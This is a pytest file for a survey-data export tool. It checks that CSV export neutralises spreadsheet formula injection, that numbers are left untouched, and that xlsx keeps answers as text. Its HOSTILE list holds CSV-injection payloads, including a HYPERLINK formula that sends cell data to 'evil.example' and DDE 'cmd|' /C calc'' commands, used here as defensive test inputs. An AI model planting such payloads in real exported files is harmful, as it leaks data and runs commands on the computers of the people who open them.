"""Answers that a spreadsheet would run as formulas: neutralised in csv (text columns only, never
numbers), kept as text in xlsx, and written as typed in csv when asked with `raw_text`."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from vakstem.export.formats import TableData, get_writer
from vakstem.export.formats.csv_format import neutralise
from vakstem.export.table import TableLayout

from .factories import ALL_PAGES, FULL, layout, record

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Minder administratie", "a = b", "'al met een aanhalingsteken"]


def _rows(lay: TableLayout) -> list[tuple[object, ...]]:
    records = []
    for i, text in enumerate(HOSTILE + HARMLESS):
        answers = {**FULL, "behoefte": text, "uren_toelichting": text, "functie_anders": text}
        records.append(record(f"r{i}", answers, path=ALL_PAGES))
    # A response that leaves items empty: its missing codes (-9, -8) are negative numbers.
    sparse = {k: v for k, v in FULL.items() if k not in ("provincie", "uren_toelichting")}
    records.append(record("neg", {**sparse, "uren": 30}, path=ALL_PAGES))
    return lay.rows(records)


def _write(fmt: str, tmp_path: Path, **options: bool) -> tuple[TableLayout, Path]:
    lay = layout(open_text=True, **options)
    path = tmp_path / f"hostile{get_writer(fmt).suffix}"
    get_writer(fmt).write(TableData(lay, iter([_rows(lay)]), None), path)
    return lay, path


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_like_a_formula_gets_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", [*HARMLESS, ""])
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


def test_text_with_a_lone_carriage_return_stays_in_its_row(tmp_path: Path) -> None:
    _lay, path = _write("csv", tmp_path, raw_text=True)
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(HOSTILE) + len(HARMLESS) + 1
    assert len(pd.read_csv(path)) == len(rows)


def test_csv_module_reads_neutralised_text_and_untouched_numbers(tmp_path: Path) -> None:
    _lay, path = _write("csv", tmp_path)
    with path.open(encoding="utf-8", newline="") as fh:
        rows = {r["response_id"]: r for r in csv.DictReader(fh)}
    for i, text in enumerate(HOSTILE):
        for name in ("behoefte", "uren_toelichting", "functie_anders"):
            assert rows[f"r{i}"][name] == "'" + text, (i, name)
    for i, text in enumerate(HARMLESS, start=len(HOSTILE)):
        assert rows[f"r{i}"]["behoefte"] == text
    # Numbers are never touched: a negative missing code stays a plain negative number.
    assert rows["neg"]["provincie"] == "-9" and rows["neg"]["uren_toelichting_mis"] == "-8"
    assert rows["neg"]["uren_toelichting"] == ""


def test_pandas_reads_text_as_text_and_codes_as_numbers(tmp_path: Path) -> None:
    _lay, path = _write("csv", tmp_path)
    frame = pd.read_csv(path, keep_default_na=False).set_index("response_id")
    assert pd.api.types.is_integer_dtype(frame["provincie"])
    assert frame.loc["neg", "provincie"] == -9
    for i, text in enumerate(HOSTILE):
        assert frame.loc[f"r{i}", "behoefte"] == "'" + text
        assert str(frame.loc[f"r{i}", "behoefte"])[0] not in "=+-@\t\r"


def test_raw_text_writes_answers_as_typed(tmp_path: Path) -> None:
    _lay, path = _write("csv", tmp_path, raw_text=True)
    with path.open(encoding="utf-8", newline="") as fh:
        rows = {r["response_id"]: r for r in csv.DictReader(fh)}
    for i, text in enumerate(HOSTILE):
        assert rows[f"r{i}"]["behoefte"] == text


def test_xlsx_keeps_every_formula_like_answer_as_a_text_cell(tmp_path: Path) -> None:
    lay, path = _write("xlsx", tmp_path)
    sheet = openpyxl.load_workbook(path)["data"]
    header = [c.value for c in sheet[1]]
    column = {name: i + 1 for i, name in enumerate(header)}
    by_id = {sheet.cell(row=r, column=1).value: r for r in range(2, sheet.max_row + 1)}
    for i, text in enumerate(HOSTILE):
        for name in ("behoefte", "functie_anders"):
            cell = sheet.cell(row=by_id[f"r{i}"], column=column[name])
            # In xlsx a text cell is never evaluated, so the answer is kept as typed (XML
            # reads a carriage return back as a line feed: a line break either way).
            assert cell.data_type == "s", (i, name, cell.value)
            assert cell.value == text.replace("\r", "\n"), (i, name, cell.value)
    neg = sheet.cell(row=by_id["neg"], column=column["provincie"])
    assert neg.data_type == "n" and neg.value == -9
    assert lay.options.raw_text is False
